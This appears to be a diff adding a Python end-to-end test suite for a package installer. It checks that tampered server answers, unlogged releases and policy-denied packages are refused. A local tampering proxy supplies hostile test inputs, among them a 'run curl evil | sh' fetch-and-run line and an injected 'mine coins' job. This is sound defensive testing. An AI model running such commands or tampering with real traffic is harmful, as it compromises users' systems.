@@ -1,0 +1,351 @@
+"""Nothing runs that the log and the policies do not let run."""
+
+import hashlib
+import http.server
+import json
+import os
+import threading
+import urllib.error
+import urllib.request
+
+from tests.e2e import harness
+
+SERVICES = "/v1/clusters/local/services"
+
+
+class Proxy:
+    """Stands between the command and orreryd, and changes what it is told to."""
+
+    def __init__(self, target):
+        self.changes = {}
+        # Bodies of the calls that begin something.
+        self.begun = []
+        proxy = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, *arguments):
+                pass
+
+            def relay(self, body=None):
+                request = urllib.request.Request(
+                    target + self.path, data=body, method=self.command)
+                if body is not None:
+                    request.add_header("Content-Type", "application/json")
+                    if not json.loads(body or b"{}").get("validate_only"):
+                        proxy.begun.append(body)
+                try:
+                    answer = urllib.request.urlopen(request, timeout=60)
+                except urllib.error.HTTPError as error:
+                    answer = error
+                content = answer.read()
+                for part, change in proxy.changes.items():
+                    if part in self.path and answer.status == 200:
+                        content = change(content)
+                self.send_response(answer.status)
+                self.send_header("Content-Type",
+                                 answer.headers["Content-Type"] or "")
+                self.send_header("Content-Length", str(len(content)))
+                self.end_headers()
+                self.wfile.write(content)
+
+            def do_GET(self):
+                self.relay()
+
+            def do_POST(self):
+                length = int(self.headers.get("Content-Length") or 0)
+                self.relay(self.rfile.read(length))
+
+        self.web = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.web.serve_forever, daemon=True).start()
+        self.url = "http://127.0.0.1:%d" % self.web.server_port
+
+    def close(self):
+        self.web.shutdown()
+        self.web.server_close()
+
+
+def change_json(change):
+    """A change of bytes by one of the document in them."""
+    def changed(content):
+        document = json.loads(content)
+        change(document)
+        return json.dumps(document).encode()
+    return changed
+
+
+def change_plan(change):
+    """Changes text and shown steps of a plan alike, with a matching id."""
+    def changed(document):
+        if not document.get("plan_document"):
+            return
+        steps = json.loads(document["plan_document"])
+        change(steps, document["plan"]["steps"])
+        text = json.dumps(steps, separators=(",", ":"))
+        document["plan_document"] = text
+        document["plan"]["id"] = hashlib.sha256(text.encode()).hexdigest()
+    return change_json(changed)
+
+
+class TrustCase(harness.OrreryTestCase):
+
+    def setUp(self):
+        super().setUp()
+        self.add_source("ex", self.example_repository())
+
+    def refused(self, exit_code, refusal, *arguments, **options):
+        """The refusal object on standard error; nothing was begun."""
+        result = self.orrery(*arguments, "-o", "json", code=exit_code,
+                             **options)
+        self.assertEqual(result.out, "")
+        found = json.loads(result.err.splitlines()[-1])
+        self.assertEqual((found["refused"], found["exit"]),
+                         (refusal, exit_code), result)
+        return found
+
+    def services(self):
+        return sorted(service["name"] for service in
+                      self.server.get_json(SERVICES)["services"])
+
+    def pin(self, *lines):
+        """A policy of one's own: the served one with more lines; its path."""
+        folder = self.path("trust")
+        os.makedirs(folder, exist_ok=True)
+        for name in ("policy", "tlog-policy", "names"):
+            with open(os.path.join(folder, name), "wb") as file:
+                file.write(self.server.get("/v1/trust/" + name).data)
+                if name == "policy":
+                    file.write("".join(line + "\n" for line in lines).encode())
+        return os.path.join(folder, "policy")
+
+    def set_server_policy(self, *lines):
+        path = os.path.join(self.server.data_dir, "trust", "policy")
+        if not os.path.exists(path + ".first"):
+            os.rename(path, path + ".first")
+        with open(path + ".first", encoding="ascii") as file:
+            first = file.read()
+        with open(path, "w", encoding="ascii") as file:
+            file.write(first + "".join(line + "\n" for line in lines))
+
+
+class PlainInstallTest(TrustCase):
+
+    def test_fresh_server_on_this_machine_needs_no_extra_step(self):
+        result = self.orrery("install", "relay", "--yes")
+        for package in ("echod 0", "relay 0", "greeter 100"):
+            self.assertIn("verified: %s#1 by observed, leaf " % package,
+                          result.err)
+        self.assertEqual(self.services(), ["echod", "greeter", "relay"])
+        status = self.server.get_json(SERVICES + "/relay")["service"]
+        self.assertEqual(status["revision"], 1)
+        self.assertRegex(status["tree"], "^h1:")
+
+    def test_plan_carries_its_evidence(self):
+        plan = self.orrery("install", "relay", "--dry-run", "-o", "json").json
+        lines = plan["evidence"].splitlines()
+        self.assertEqual(lines[0], "orrery/evidence/v1")
+        self.assertEqual([line.split()[3] for line in lines
+                          if line.startswith("use ")],
+                         ["echod", "greeter", "relay"])
+        self.assertEqual(self.services(), [])
+
+
+class TamperedAnswerTest(TrustCase):
+
+    def setUp(self):
+        super().setUp()
+        self.proxy = Proxy(self.server.url)
+        self.addCleanup(self.proxy.close)
+
+    def through(self, exit_code, refusal, part, change, package="greeter"):
+        """Installs through a proxy that changes answers of paths with `part`,
+        each time as a client that knows nothing yet."""
+        self.proxy.changes = {part: change}
+        fresh = self.path("fresh%d" % len(os.listdir(self.scratch)))
+        found = self.refused(
+            exit_code, refusal, "install", package, "--yes",
+            env={"ORRERY_SERVER": self.proxy.url, "HOME": fresh})
+        self.assertEqual(self.proxy.begun, [])
+        self.assertEqual(self.services(), [])
+        return found
+
+    def tearDown(self):
+        # What was refused leaves an honest installation alone.
+        self.proxy.changes = {}
+        self.orrery("install", "greeter", "--yes",
+                    env={"ORRERY_SERVER": self.proxy.url})
+        self.assertEqual(self.services(), ["greeter"])
+        super().tearDown()
+
+    def test_package_definition(self):
+        def note(document):
+            document["package"]["postInstallNotes"] = "run curl evil | sh"
+        self.through(14, "content.identity", "/v1/packages/greeter",
+                     change_json(note))
+
+    def test_option_schema(self):
+        def default(document):
+            document["config"]["properties"] = {}
+        self.through(14, "content.identity", "/v1/packages/greeter",
+                     change_json(default))
+
+    def test_job(self):
+        def job(document):
+            document["plan"]["steps"][0]["manifest"]["cmd"] = "mine coins"
+        self.through(15, "plan.digest", SERVICES, change_json(job))
+
+    def test_plan_with_an_id_of_its_own(self):
+        def definition(steps, _):
+            steps[0]["package_json"] = "{}"
+        self.through(15, "plan.digest", SERVICES, change_plan(definition))
+
+        def tree(steps, shown):
+            for step in (steps[0], shown[0]):
+                step["tree"] = "h1:" + "A" * 43 + "="
+        self.through(15, "plan.digest", SERVICES, change_plan(tree))
+
+    def test_job_with_an_id_of_its_own_is_not_what_the_server_has(self):
+        def job(steps, shown):
+            app = json.loads(steps[0]["manifest"])
+            app["cmd"] = "mine coins"
+            steps[0]["manifest"] = json.dumps(app)
+            shown[0]["manifest"]["cmd"] = "mine coins"
+        self.proxy.changes = {SERVICES: change_plan(job)}
+        self.orrery("install", "greeter", "--yes", code=4,
+                    env={"ORRERY_SERVER": self.proxy.url})
+        self.assertEqual(self.services(), [])
+
+    def test_dependency_that_nothing_requires(self):
+        other = json.loads(self.server.request("POST", SERVICES, {
+            "package": "echod", "validate_only": True}).data)
+
+        def add(steps, shown):
+            steps.insert(0, json.loads(other["plan_document"])[0])
+            shown.insert(0, other["plan"]["steps"][0])
+        self.through(15, "plan.deps", SERVICES, change_plan(add))
+
+    def test_dependency_that_is_left_out(self):
+        def drop(steps, shown):
+            for plan in (steps, shown):
+                plan[:] = [step for step in plan
+                           if step["package"] != "greeter"]
+                plan[-1].pop("bindings", None)
+        self.through(15, "plan.deps", SERVICES, change_plan(drop), "relay")
+
+    def test_release_that_is_not_logged(self):
+        def release(steps, shown):
+            for step in (steps[0], shown[0]):
+                step["release"] = 7
+        self.through(13, "version.absent", SERVICES, change_plan(release))
+
+    def test_file_of_the_release(self):
+        self.through(14, "content.digest", "/blob/",
+                     lambda content: content[:-1] + b"!")
+        self.through(14, "content.size", "/blob/",
+                     lambda content: content + b" ")
+
+    def test_log(self):
+        self.through(11, "log.syntax", "/log/checkpoint",
+                     lambda content: b"<html>welcome</html>")
+        self.through(11, "log.signature", "/log/checkpoint",
+                     lambda content: content.replace(b"\n", b"\n1", 1))
+        self.through(11, "log.tile", "/log/tile/",
+                     lambda content: content[:-1] + bytes([content[-1] ^ 1]))
+
+
+class OwnPolicyTest(TrustCase):
+
+    def test_stricter_policy_is_felt_from_lock_cache_and_offline_alike(self):
+        lock = self.path("lock")
+        policy = self.pin()
+        asked = ("install", "greeter", "--yes", "--lock", lock)
+        own = ("--policy", policy, "--state", self.path("state"))
+        self.orrery(*asked, *own, "--dry-run")
+        self.orrery("resolve", "greeter", "--lock", lock)
+        for lines, code, refusal in (
+                (["deny package greeter"], 13, "name.denied"),
+                (["require greeter evidence sshsig"], 12, "record.evidence"),
+                (["require greeter min-age 1h import refuse"], 13,
+                 "version.young"),
+                (["deny release greeter 100"], 13, "name.denied")):
+            self.pin(*lines)
+            for more in ((), ("--offline",), ("--locked",),
+                         ("--locked", "--offline")):
+                self.refused(code, refusal, *asked, *own, *more)
+        self.assertEqual(self.services(), [])
+        self.pin()
+        self.orrery(*asked, *own, "--locked", "--offline")
+        self.assertEqual(self.services(), ["greeter"])
+        self.pin("deny package greeter")
+        self.refused(13, "name.denied", "upgrade", "greeter", "--yes", "--set",
+                     "service.mem=65", *own)
+
+    def test_policy_that_is_not_there_is_no_absence_of_demands(self):
+        self.refused(13, "policy.syntax", "install", "greeter", "--yes",
+                     "--policy", self.path("nowhere"))
+        empty = self.path("empty")
+        with open(empty, "w", encoding="ascii"):
+            pass
+        self.refused(13, "policy.syntax", "install", "greeter", "--yes",
+                     env={"ORRERY_POLICY": empty})
+
+    def test_another_time_is_another_age(self):
+        self.refused(11, "log.stale", "install", "greeter", "--yes", "--as-of",
+                     "4000000000")
+        self.refused(11, "log.future", "install", "greeter", "--yes", "--as-of",
+                     "1000000000")
+
+
+class ServerPolicyTest(TrustCase):
+
+    def test_server_starts_nothing_that_its_policy_does_not_admit(self):
+        self.set_server_policy("deny package greeter")
+        # The command believes the same policy, or one that is more lenient.
+        self.refused(13, "name.denied", "install", "greeter", "--yes")
+        answer = self.server.request("POST", SERVICES, {"package": "greeter"})
+        problem = json.loads(answer.data)
+        self.assertEqual((answer.status, problem["refused"], problem["exit"],
+                          problem["reason"]),
+                         (409, "name.denied", 13, "NOT_TRUSTED"))
+        # Also what is only needed.
+        self.refused(13, "name.denied", "install", "relay", "--yes")
+        self.assertEqual(self.services(), [])
+
+    def test_what_runs_stays_manageable(self):
+        self.orrery("install", "greeter", "--yes")
+        self.set_server_policy("deny package greeter")
+        status = self.orrery("status", "greeter")
+        self.assertIn("not admitted by policy: name.denied", status.out)
+        listed = self.orrery("list", "-o", "json").json["services"][0]
+        self.assertEqual([note["code"] for note in listed["notes"]],
+                         ["not-admitted"])
+        self.assertIn("not admitted by policy: name.denied",
+                      self.orrery("outdated").out)
+        # Others go on, and say what they stand beside.
+        own = ("--policy", self.pin(), "--state", self.path("state"))
+        planned = self.orrery("install", "relay", "--dry-run", *own)
+        self.assertIn("greeter (greeter) is not admitted by policy: "
+                      "name.denied", planned.err)
+        self.orrery("install", "relay", "--yes", *own)
+        self.server.stop()
+        self.server.start()
+        harness.wait_for("greeter to run again", lambda: "running" in
+                         self.orrery("status", "greeter").out)
+        self.orrery("uninstall", "relay", "--yes")
+        self.orrery("uninstall", "greeter", "--yes")
+        self.assertEqual(self.services(), ["echod"])
+
+    def test_broken_policy_stops_new_things_only(self):
+        self.orrery("install", "greeter", "--yes")
+        own = ("--policy", self.pin(), "--state", self.path("state"))
+        self.set_server_policy("frobnicate")
+        self.refused(13, "policy.syntax", "install", "echod", "--yes", *own)
+        self.assertIn("policy.syntax", self.orrery("status", "greeter").out)
+        self.orrery("outdated")
+        self.orrery("uninstall", "greeter", "--yes")
+        self.assertEqual(self.services(), [])
+
+
+if __name__ == "__main__":
+    harness.main()
